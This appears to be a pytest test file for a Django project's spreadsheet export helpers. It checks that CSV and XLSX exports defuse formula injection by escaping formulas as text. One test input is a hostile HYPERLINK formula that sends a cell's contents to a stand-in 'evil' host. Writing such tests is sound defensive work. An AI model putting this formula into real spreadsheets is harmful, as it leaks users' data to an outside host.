"""core/spreadsheets.py: a string a spreadsheet would run is text in a CSV (an apostrophe
first) and a string cell in an XLSX (as typed); numbers, dates and plain text unchanged.
The exports themselves are checked through their views in tests/test_export_formulas.py."""

import csv
import datetime
import io

import pytest
from django.utils.translation import gettext_lazy
from openpyxl import Workbook, load_workbook
from openpyxl.cell import WriteOnlyCell

from beneficiaries.importing.values import text
from core.spreadsheets import cell_text, csv_writer, typed_text, xlsx_row, xlsx_set

RUNNABLE = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"]
KEPT = ["Sri Wahyuni", "Jl. Raya No. 12", "'=already text", " =1", "", "a=b", "1-2"]


@pytest.mark.parametrize("typed", RUNNABLE)
def test_a_runnable_string_gets_an_apostrophe_in_csv(typed):
    assert cell_text(typed) == f"'{typed}"


@pytest.mark.parametrize("value", [*KEPT, -5000, 0, 12.5, -0.5, None, datetime.date(2026, 1, 2)])
def test_anything_else_is_left_as_it_is(value):
    assert cell_text(value) == value


def test_a_typed_minus_is_text_a_computed_minus_a_number():
    assert cell_text("-5000") == "'-5000"
    assert cell_text(-5000) == -5000


def test_a_lazy_translation_is_written_as_its_text():
    written = cell_text(gettext_lazy("Name"))
    assert type(written) is str and written == str(gettext_lazy("Name"))


def test_csv_writer_streams_lines_and_writes_to_a_stream():
    line = csv_writer().writerow(["=1+1", -5000, "Sri"])
    assert list(csv.reader([line])) == [["'=1+1", "-5000", "Sri"]]

    out = io.StringIO()
    csv_writer(out).writerows([["@x", 1], ["\r=1", None]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'@x", "1"], ["'\r=1", ""]]


def _read_back(workbook):
    out = io.BytesIO()
    workbook.save(out)
    return load_workbook(io.BytesIO(out.getvalue())).worksheets[0]


@pytest.mark.parametrize("write_only", [True, False])
def test_xlsx_row_writes_strings_as_string_cells(write_only):
    workbook = Workbook(write_only=write_only)
    sheet = workbook.create_sheet("S") if write_only else workbook.active
    dated = WriteOnlyCell(sheet, value=datetime.date(2026, 1, 2))
    made = WriteOnlyCell(sheet, value="=made(1)")  # a cell made for its font, say
    typed = ["=1+1", "+1", "-2+3", "@SUM(1)", "\t=1", "#N/A", "Sri"]
    sheet.append(xlsx_row(sheet, [*typed, -5000, 12.5, None, dated, made]))

    cells = _read_back(workbook)[1]

    assert [(c.value, c.data_type) for c in cells[: len(typed)]] == [(v, "s") for v in typed]
    assert [(c.value, c.data_type) for c in cells[len(typed) : len(typed) + 2]] == [
        (-5000, "n"),
        (12.5, "n"),
    ]
    assert cells[-2].value.date() == datetime.date(2026, 1, 2)
    assert (cells[-1].value, cells[-1].data_type) == ("=made(1)", "s")


def test_xlsx_set_puts_a_string_in_a_cell_as_text():
    workbook = Workbook()
    sheet = workbook.active
    xlsx_set(sheet.cell(row=1, column=1), "=1+1")
    xlsx_set(sheet.cell(row=1, column=2), 7)

    a1, b1 = _read_back(workbook)[1]

    assert (a1.value, a1.data_type) == ("=1+1", "s")
    assert (b1.value, b1.data_type) == (7, "n")


@pytest.mark.parametrize("typed", ["=1+1", "+62 812", "-2+3", "@SUM(1)", "plain", "'quoted"])
def test_typed_text_reads_back_what_cell_text_wrote(typed):
    assert typed_text(cell_text(typed)) == typed


def test_an_imported_cell_loses_the_apostrophe_of_our_own_export():
    assert text("'=HYPERLINK(1)") == "=HYPERLINK(1)"
    assert text("'3522011505870001") == "'3522011505870001"  # a NIK's apostrophe: parse_nik's
